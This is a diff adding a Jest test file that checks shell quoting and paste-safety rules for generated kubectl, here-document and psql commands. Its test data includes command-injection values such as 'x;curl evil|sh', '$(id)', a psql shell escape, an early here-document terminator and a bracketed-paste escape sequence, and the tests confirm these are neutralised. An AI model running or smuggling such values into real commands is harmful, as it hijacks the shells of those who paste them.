@@ -1,0 +1,95 @@
+import { execFileSync } from 'node:child_process';
+import { describe, expect, test } from '@jest/globals';
+import fc from 'fast-check';
+import { copyable, psqlLines, remedyParts, shellLines } from '../../../src/text/commands.ts';
+import { isPasteable } from '../../../src/text/psql.ts';
+import { hereDocument, notPasteable, shell, shellQuoted } from '../../../src/text/shell.ts';
+
+describe('a word for the shell', () => {
+  test.each([
+    ['postgresql-0', 'postgresql-0'],
+    ['registry.io/server:12.1@sha256:ab', 'registry.io/server:12.1@sha256:ab'],
+    ['', "''"],
+    ['=ls', "'=ls'"],
+    ['~root', "'~root'"],
+    ["it's", String.raw`'it'\''s'`],
+    ['x;curl evil|sh', "'x;curl evil|sh'"],
+    ['$(id)', "'$(id)'"],
+    ['!!', "'!!'"],
+  ])('%j is written as %j', (word, written) => {
+    expect(shellQuoted(word)).toBe(written);
+  });
+
+  test('comes out of a shell as it went in', () => {
+    fc.assert(
+      fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 50, maxLength: 50 }), (words) => {
+        const given = words.map((word) => word.replaceAll('\0', '').toWellFormed());
+        const script = `printf '%s\\0' ${given.map(shellQuoted).join(' ')}`;
+        expect(execFileSync('sh', ['-c', script], { encoding: 'utf8' }).split('\0').slice(0, -1)).toEqual(given);
+      }),
+      { numRuns: 20 },
+    );
+  });
+});
+
+describe('a command', () => {
+  test('has what is put into it as words', () => {
+    expect(shell`kubectl -n ${'a b'} set image sts/${'x'} ${'c'}=${'i;j'}`).toBe(
+      "kubectl -n 'a b' set image sts/x c='i;j'",
+    );
+    expect(shell`kubectl label ${['a/b', 'c d']} NAME-`).toBe("kubectl label a/b 'c d' NAME-");
+  });
+
+  test.each(['a\nb', 'a\rb', 'a\tb', '\x1b[201~', '\u202ea', 'a\u200b', '--kubeconfig=/x'])(
+    'with the name %j is not given',
+    (name) => {
+      expect(shell`kubectl get pod ${name}`).toBe(notPasteable);
+      expect(copyable(shell`kubectl get pod ${name}`)).toBe(notPasteable);
+      expect(shellLines(shell`kubectl get pod ${name}`)).toBe(` ${notPasteable}`);
+    },
+  );
+
+  test('with lines of its own ends where it is meant to', () => {
+    expect(hereDocument('kubectl apply -f -', ['a: b'])).toBe("kubectl apply -f - <<'EOF'\na: b\nEOF");
+    expect(hereDocument('kubectl apply -f -', ['a', 'EOF', 'id'])).toBe(notPasteable);
+    expect(hereDocument('kubectl apply -f -', ['a\nEOF\nid'])).toBe(notPasteable);
+  });
+
+  test('in a sentence has a longer fence than its own backticks', () => {
+    expect(copyable("echo 'a`b'")).toBe("``echo 'a`b'``");
+    expect(copyable('`id`')).toBe('`` `id` ``');
+  });
+});
+
+describe('commands for psql', () => {
+  test.each([
+    ['DROP TABLE "a";\nDROP TABLE "b";', true],
+    ['DROP TABLE "a\nb";', false],
+    ['\\connect "a\n\\! id"', false],
+    ["SELECT 'a''b\n';", false],
+    [`SELECT '"';\nSELECT "'";`, true],
+    ['DROP TABLE "a\x1b[201~";', false],
+    ['DROP TABLE "a\tb";', false],
+  ])('%j', (commands, expected) => {
+    expect(isPasteable(commands)).toBe(expected);
+  });
+
+  test('are left out one by one, and all of a database that can not be named', () => {
+    const lines = psqlLines([
+      ['\\connect a', 'DROP TABLE x;', 'DROP TABLE "y\n";'],
+      ['\\connect "b\n"', 'DROP TABLE z;'],
+      ['\\connect c', 'DROP TABLE "z\x07";'],
+    ]);
+    expect(lines).toBe(` ${notPasteable}\nIn psql:\n\\connect a\nDROP TABLE x;`);
+    expect(psqlLines([])).toBe('');
+  });
+
+  test('are told from the words before them', () => {
+    expect(remedyParts('Do it.\nIn psql:\nA;\nIn psql:\nB;')).toEqual({
+      words: 'Do it.',
+      mark: 'In psql:',
+      commands: 'A;\nIn psql:\nB;',
+    });
+    expect(remedyParts('Do it.').commands).toBeUndefined();
+  });
+});
